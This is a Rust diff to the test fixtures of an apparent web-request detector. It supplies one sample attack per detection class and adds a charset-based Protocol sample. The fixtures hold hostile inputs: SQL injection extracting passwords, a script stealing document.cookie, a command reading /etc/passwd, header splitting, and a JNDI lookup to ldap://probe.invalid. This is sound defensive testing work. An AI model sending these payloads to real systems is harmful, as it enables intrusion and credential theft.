@@ -25,9 +25,9 @@ const fn query(query: &'static str) -> Attack {
     Attack { method: None, query, fields: "", body: None, answer: None, weak: false }
 }
 
-/// One for a family of the gate's own detection; none for a class that nothing reports yet.
-pub(crate) const fn of_class(class: Class) -> Option<Attack> {
-    Some(match class {
+/// One for a family of the gate's own detection.
+pub(crate) const fn of_class(class: Class) -> Attack {
+    match class {
         Class::Sql => query("1%27%20union%20select%20password%20from%20users--%20-"),
         Class::Script => query("%3Cscript%3Ealert(document.cookie)%3C/script%3E"),
         Class::Command => query(";cat%20/etc/passwd"),
@@ -50,8 +50,10 @@ pub(crate) const fn of_class(class: Class) -> Option<Attack> {
         Class::Splitting => query("a%0d%0aSet-Cookie:%20a=b%0d%0a%0d%0a"),
         Class::Encoding => Attack { weak: true, ..query("%25252525252525252525253Cscript%25252525252525252525253E") },
         Class::Patch => Attack { fields: "User-Agent: ${jndi:ldap://probe.invalid/a}\r\n", ..query("1") },
-        Class::Protocol => return None,
-    })
+        Class::Protocol => {
+            Attack { body: Some(("application/x-www-form-urlencoded; charset=ibm037", "a=b")), ..query("1") }
+        }
+    }
 }
 
 /// One for a family of rules, by the tags that the Core Rule Set has.
@@ -103,7 +105,7 @@ mod tests {
     fn each_family_fires_alone() {
         let mut silent = Vec::new();
         for class in Class::ALL {
-            let Some(attack) = of_class(*class) else { continue };
+            let attack = of_class(*class);
             let allowed = Class::ALL.iter().copied().filter(|other| other != class).collect();
             let detector = Detector::new(Settings { allowed, ..Settings::default() });
             let mut findings = Findings::new();
@@ -114,6 +116,7 @@ mod tests {
             }
             if let Some((kind, body)) = attack.body {
                 let (bounds, mut fields) = (Bounds::default(), Fields::new());
+                detector.header(b"content-type", kind.as_bytes(), &mut findings);
                 detector.body(kind.as_bytes(), false, body.as_bytes(), &bounds, &mut fields, &mut findings);
             }
             let found = findings.list().iter().any(|finding| finding.class == *class);
